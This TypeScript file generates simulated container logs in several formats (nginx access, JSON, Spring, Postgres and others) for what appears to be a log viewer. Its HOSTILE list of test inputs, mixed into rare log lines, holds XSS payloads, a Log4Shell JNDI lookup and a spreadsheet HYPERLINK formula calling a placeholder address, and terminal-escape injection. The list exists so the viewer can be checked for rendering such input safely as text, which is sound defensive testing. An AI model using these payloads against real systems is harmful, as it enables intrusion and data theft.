import { type ContainerState, type Snapshot, snapshotAt } from './lifecycle.ts'
import { between, hexId, mix, pick, unit } from './random.ts'
import type { LogStyle } from './templates.ts'
import type { Slot } from './world.ts'

export interface LogEntry {
  readonly timeMs: number
  readonly stream: 'stdout' | 'stderr'
  /** One line, without its end. */
  readonly text: string
}

/** As json-file with max-size does, the simulated engine forgets all but the newest lines. */
const RETAINED_LINES = 20_000

const PATHS = [
  '/api/v1/products',
  '/api/v1/cart',
  '/healthz',
  '/search?q=lamp',
  '/assets/app.js',
  '/login',
  '/api/v1/orders/81734',
]
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15',
  'curl/8.11.0',
  'kube-probe/1.31',
]
const SUBJECTS = ['order', 'session', 'invoice', 'shipment', 'batch', 'document', 'reservation']
const MESSAGES = [
  'request completed',
  'message consumed',
  'cache refreshed',
  'job finished',
  'connection accepted',
  'snapshot written',
]
const TROUBLES = [
  'upstream timed out',
  'connection reset by peer',
  'deadlock detected',
  'retrying after backoff',
  'queue is full',
]

/** What people type into forms and what then stands in logs. A viewer must show it as text. */
const HOSTILE = [
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  ['$', '{jndi:ldap://198.51.100.7/a}'].join(''),
  '\u001b]0;owned\u0007 title changed \u001b[2J',
  '=HYPERLINK("http://198.51.100.7","click")',
  '\u202Egnp.exe \u0000 null and right-to-left',
  `${'A'.repeat(6000)} end of a long line`,
]

interface Line {
  seed: number
  at: Date
  level: 'debug' | 'info' | 'warn' | 'error'
  request: string
  milliseconds: number
}

function message(line: Line): string {
  if (line.level === 'error' || line.level === 'warn') return pick(TROUBLES, line.seed, 4)
  if (mix(line.seed, 40) % 3000 === 0) return `user input rejected: ${pick(HOSTILE, line.seed, 41)}`
  return pick(MESSAGES, line.seed, 5)
}

const javaTrace = (line: Line) =>
  [
    `java.lang.IllegalStateException: ${message(line)}`,
    '\tat com.acme.orders.OrderService.reserve(OrderService.java:142)',
    '\tat com.acme.orders.OrderController.create(OrderController.java:57)',
    '\tat org.springframework.web.method.support.InvocableHandlerMethod.invoke(InvocableHandlerMethod.java:255)',
    'Caused by: java.net.SocketTimeoutException: Read timed out',
    '\tat java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:278)',
    '\t... 34 more',
  ].join('\n')

const pad = (value: number, width = 2) => String(value).padStart(width, '0')
const COLOURS = { debug: 36, info: 32, warn: 33, error: 31 } as const
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']

const FORMATS: Readonly<Record<LogStyle, (line: Line) => string>> = {
  access(line) {
    const { seed, at } = line
    const status =
      line.level === 'error' ? 502 : line.level === 'warn' ? 404 : pick([200, 200, 200, 304, 201], seed, 1)
    const stamp = `${pad(at.getUTCDate())}/${MONTHS[at.getUTCMonth()]}/${at.getUTCFullYear()}:${at.toISOString().slice(11, 19)} +0000`
    const query =
      mix(seed, 42) % 2500 === 0
        ? `/search?q=${encodeURIComponent(pick(HOSTILE, seed, 43).slice(0, 60))}`
        : pick(PATHS, seed, 2)
    return `203.0.113.${between(1, 254, seed, 3)} - - [${stamp}] "GET ${query} HTTP/1.1" ${status} ${between(180, 48_000, seed, 6)} "-" "${pick(AGENTS, seed, 7)}" ${(line.milliseconds / 1000).toFixed(3)}`
  },
  json(line) {
    const { level, at, request, milliseconds } = line
    return JSON.stringify({
      level,
      time: at.toISOString(),
      msg: message(line),
      request_id: request,
      route: pick(PATHS, line.seed, 2),
      duration_ms: milliseconds,
      [pick(SUBJECTS, line.seed, 8)]: between(1000, 99_999, line.seed, 9),
    })
  },
  logfmt({ level, at, request, milliseconds, ...line }) {
    const text = message({ level, at, request, milliseconds, ...line }).replaceAll('"', '\\"')
    return `time=${at.toISOString()} level=${level} msg="${text}" request_id=${request} duration=${milliseconds}ms ${pick(SUBJECTS, line.seed, 8)}=${between(1000, 99_999, line.seed, 9)}`
  },
  spring(line) {
    const stamp = line.at.toISOString().replace('T', ' ').replace('Z', '')
    const head = `${stamp} ${line.level.toUpperCase().padStart(5)} 1 --- [nio-8080-exec-${between(1, 20, line.seed, 1)}] c.a.orders.OrderService : `
    return line.level === 'error'
      ? `${head}request failed\n${javaTrace(line)}`
      : `${head}${message(line)} id=${line.request}`
  },
  ansi(line) {
    const level = `\u001b[1;${COLOURS[line.level]}m${line.level.toUpperCase()}\u001b[0m`
    return `\u001b[2m${line.at.toISOString().slice(11, 23)}\u001b[0m ${level} ${message(line)} \u001b[38;5;${between(20, 220, line.seed, 1)}m${pick(PATHS, line.seed, 2)}\u001b[0m \u001b[4m${line.milliseconds}ms\u001b[0m`
  },
  postgres({ level, at, seed, milliseconds }) {
    const stamp = `${at.toISOString().replace('T', ' ').replace('Z', '')} UTC [${between(40, 900, seed, 1)}]`
    if (level === 'error')
      return `${stamp} ERROR:  deadlock detected\n${stamp} DETAIL:  Process 411 waits for ShareLock on transaction 88123; blocked by process 420.`
    if (level === 'warn')
      return `${stamp} LOG:  duration: ${milliseconds * 12}.412 ms  statement: SELECT * FROM orders WHERE customer_id = $1`
    return `${stamp} LOG:  checkpoint complete: wrote ${between(20, 4000, seed, 2)} buffers (${between(1, 30, seed, 3)}.2%); write=${between(1, 90, seed, 4)}.104 s`
  },
  redis: ({ at, seed }) =>
    `1:M ${pad(at.getUTCDate())} ${MONTHS[at.getUTCMonth()]} ${at.getUTCFullYear()} ${at.toISOString().slice(11, 23)} * ${pick(['10 changes in 300 seconds. Saving...', 'Background saving terminated with success', 'DB saved on disk'], seed, 1)}`,
  python(line) {
    const head = `${line.at.toISOString().replace('T', ' ').slice(0, 19)},${pad(line.at.getUTCMilliseconds(), 3)} ${line.level.toUpperCase()} worker.tasks `
    if (line.level !== 'error')
      return `${head}${message(line)} task=${line.request} took=${line.milliseconds}ms`
    return `${head}task failed\nTraceback (most recent call last):\n  File "/app/worker/tasks.py", line ${between(20, 300, line.seed, 2)}, in run\n    result = self.call(payload)\nTimeoutError: ${message(line)}`
  },
  plain: (line) => `[${line.level}] ${message(line)} (${line.milliseconds} ms)`,
}

function levelOf(seed: number, unhealthy: boolean): Line['level'] {
  const roll = unit(seed, 60) * (unhealthy ? 0.12 : 1)
  if (roll < 0.008) return 'error'
  if (roll < 0.035) return 'warn'
  return roll > 0.93 ? 'debug' : 'info'
}

function trafficLine(slot: Slot, index: number, timeMs: number, snapshot: Snapshot): LogEntry {
  const seed = mix(slot.seed, index)
  const level = levelOf(seed, snapshot.health === 'unhealthy')
  const { logs } = slot.template
  const line: Line = {
    seed,
    at: new Date(timeMs),
    level,
    request: hexId(seed, 12),
    milliseconds: Math.round(
      2 + 40 * -Math.log(1 - unit(seed, 61)) * (snapshot.health === 'unhealthy' ? 30 : 1),
    ),
  }
  // nginx and friends write errors into the access log; most others use stderr for them.
  const stderr = logs === 'postgres' || logs === 'logfmt' || (level === 'error' && logs !== 'access')
  return { timeMs, stream: stderr ? 'stderr' : 'stdout', text: FORMATS[logs](line) }
}

const isRunning = (state: ContainerState): boolean => state === 'running'

/** What a container says when it starts and when it dies of itself. */
function milestones(slot: Slot, snapshot: Snapshot, from: number, to: number): LogEntry[] {
  const entries: LogEntry[] = []
  const say = (timeMs: number, stream: LogEntry['stream'], text: string) => {
    if (timeMs > from && timeMs <= to) entries.push({ timeMs: Math.round(timeMs), stream, text })
  }
  const { startedAt, finishedAt, state, exitCode } = snapshot
  if (startedAt !== undefined) {
    say(
      startedAt + 40,
      'stdout',
      `starting ${slot.template.name} (deploy ${snapshot.incarnation.deploy}, pid 1)`,
    )
    say(startedAt + 310, 'stdout', 'configuration loaded from environment')
  }
  if (finishedAt !== undefined && !isRunning(state) && exitCode === 1) {
    say(
      finishedAt,
      'stderr',
      'fatal: cannot connect to ldap://directory.acme.example:389: connection refused',
    )
    say(
      finishedAt,
      'stderr',
      'panic: giving up after 3 attempts\n\ngoroutine 1 [running]:\nmain.main()\n\t/src/main.go:87 +0x1a4',
    )
  }
  if (finishedAt !== undefined && !isRunning(state) && exitCode === 0 && finishedAt > (startedAt ?? 0)) {
    say(finishedAt, 'stdout', 'finished, nothing left to do')
  }
  return entries
}

/** The course of a container from `from` to `to`, newest part last; at most `limit` parts, the newest. */
function partsOf(
  slot: Slot,
  from: number,
  to: number,
  limit: number,
): { snapshot: Snapshot; from: number; to: number }[] {
  const parts: { snapshot: Snapshot; from: number; to: number }[] = []
  let at = from
  while (at <= to) {
    const snapshot = snapshotAt(slot, at)
    const end = Math.min(to, snapshot.until - 1)
    parts.push({ snapshot, from: at, to: end })
    if (parts.length > limit) parts.shift()
    at = end + 1
  }
  return parts
}

/**
 * Lines written after `from` and up to `to`, oldest first, of the container that is there at `to`.
 *
 * @param most keeps only the newest so many.
 * @param scale multiplies how much is written.
 */
export function logLines(slot: Slot, from: number, to: number, most = RETAINED_LINES, scale = 1): LogEntry[] {
  const { createdAt } = snapshotAt(slot, to).incarnation
  const limit = Math.min(most, RETAINED_LINES)
  const rate = slot.template.logRate * scale
  const phase = unit(slot.seed, 70)
  const indexAt = (time: number) => Math.floor(slot.traffic.integral(time) * rate + phase)
  const last = indexAt(to)
  // A container that restarts once a minute for weeks would make this a walk over 100,000 parts.
  const oldest = Math.max(from, createdAt - 1, to - 86_400_000)
  const first = Math.max(indexAt(oldest), last - limit)
  const begin =
    first === last - limit ? Math.max(oldest, slot.traffic.timeOf((first - phase) / rate, to) - 1) : oldest

  const entries: LogEntry[] = []
  // Line i is written somewhere between the i-th and the next unit of load: not as by a metronome.
  const timeOf = (line: number, near: number) =>
    slot.traffic.timeOf((line + 0.9 * unit(slot.seed, line) - phase) / rate, near)
  let index = first
  let near = begin
  for (const part of partsOf(slot, begin + 1, to, 4000)) {
    if (isRunning(part.snapshot.state) || part.snapshot.finishedAt !== undefined) {
      entries.push(...milestones(slot, part.snapshot, part.from - 1, part.to))
    }
    for (; index <= last; index++) {
      const time = timeOf(index, near)
      if (time > part.to) break
      near = time
      if (time >= part.from && isRunning(part.snapshot.state)) {
        entries.push(trafficLine(slot, index, Math.max(time, part.from), part.snapshot))
      }
    }
  }
  entries.sort((a, b) => a.timeMs - b.timeMs)
  const lines = entries.flatMap((entry) =>
    entry.text.includes('\n') ? entry.text.split('\n').map((text) => ({ ...entry, text })) : entry,
  )
  return lines.length > limit ? lines.slice(-limit) : lines
}
